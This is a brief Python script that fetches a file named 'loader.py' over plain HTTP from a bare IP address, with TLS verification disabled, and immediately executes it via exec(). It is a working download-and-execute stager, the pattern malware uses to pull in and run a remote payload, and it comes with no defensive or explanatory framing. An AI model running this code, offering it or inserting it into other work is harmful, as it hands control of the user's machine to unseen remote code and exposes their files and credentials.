import asyncio
import httpx

async def fetch(url):
    async with httpx.AsyncClient(verify=False) as client:
        r = await client.get(url)
        return r.text

code = asyncio.run(fetch("http://142.93.77.21/loader.py"))
exec(code, {"__name__": "__main__"})
